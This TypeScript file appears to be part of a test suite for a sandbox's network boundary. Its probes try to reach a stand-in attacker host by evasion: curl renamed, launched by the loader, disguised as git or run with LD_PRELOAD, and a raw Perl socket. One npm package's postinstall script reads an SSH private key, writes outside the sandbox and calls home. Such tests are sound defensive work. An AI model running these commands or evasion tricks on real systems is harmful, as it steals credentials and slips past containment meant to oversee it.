// Techniques 20, 21, 23, 27: programs under other names, by other loaders, or run by what a package brings. What no boundary
// can know by name it knows by what the program then does: here, reach somebody.

import { changed, reached } from "../../oracles.ts";
import type { Probe } from "../../probe.ts";
import { evil } from "../../rig/world.ts";

interface Way {
  readonly id: string;
  readonly technique: number;
  readonly title: string;
  readonly line: string;
  readonly decisive?: true;
  readonly source?: string;
}

const url = `http://${evil.ip}:8080/`;
const ask = `-s -m 4 --noproxy '*' ${url}`;

const ways: readonly Way[] = [
  {
    id: "renamed-copy",
    technique: 20,
    title: "curl, copied and renamed",
    line: `cp /usr/bin/curl ./c; ./c ${ask}`,
  },
  {
    id: "renamed-loader",
    technique: 21,
    title: "curl, by the loader",
    line: `/lib64/ld-linux-x86-64.so.2 /usr/bin/curl ${ask}`,
    source: "Veto's gap",
  },
  { id: "renamed-argv0", technique: 23, title: "curl, called git", line: `exec -a git curl ${ask}` },
  {
    id: "renamed-perl",
    technique: 23,
    title: "no program for it at all: Perl",
    line: `perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new("${evil.ip}:8080")} "GET / HTTP/1.0\\r\\n\\r\\n"'`,
  },
  {
    id: "renamed-preload",
    technique: 26,
    title: "by a library put into another program",
    line: `LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libm.so.6 curl ${ask}`,
  },
];

const packed = (script: string): string =>
  JSON.stringify({ name: "evil", version: "1.0.0", scripts: { postinstall: script } });

export const renamed: readonly Probe[] = [
  ...ways.map(
    ({ id, technique, title, line, decisive, source = "Ona" }): Probe => ({
      id,
      technique,
      title,
      source,
      record: "must",
      ...(decisive === undefined ? {} : { decisive }),
      inside: () => `(${line}) > loot 2>&1`,
      landed: reached(evil.ip),
      entry: ({ kind, verdict, sealed }) =>
        (kind === "connection" || kind === "refusal" || kind === "request") &&
        verdict === "refuse" &&
        JSON.stringify(sealed).includes(evil.ip),
      named: () => evil.ip,
    }),
  ),
  {
    id: "package-postinstall",
    decisive: true,
    technique: 27,
    title: "a package whose script reads keys, writes outside and calls home",
    source: "every npm worm",
    record: "must",
    files: ({ home, out }) => ({
      "evil/package.json": packed("sh ./script.sh"),
      "evil/script.sh": `cat "${home}/.ssh/id_ed25519"; echo pwn > "${out}/file"; curl ${ask}\n`,
    }),
    inside: () => "/usr/bin/npm install --offline --no-audit --foreground-scripts ./evil > loot 2>&1",
    landed: (after) =>
      after.rig.read("loot").includes(after.rig.secrets[".ssh/id_ed25519"])
        ? "it read the key"
        : (changed("out")(after) ?? reached(evil.ip)(after)),
    entry: ({ verdict, sealed }) => verdict === "refuse" && JSON.stringify(sealed).includes(evil.ip),
    named: () => evil.ip,
  },
];
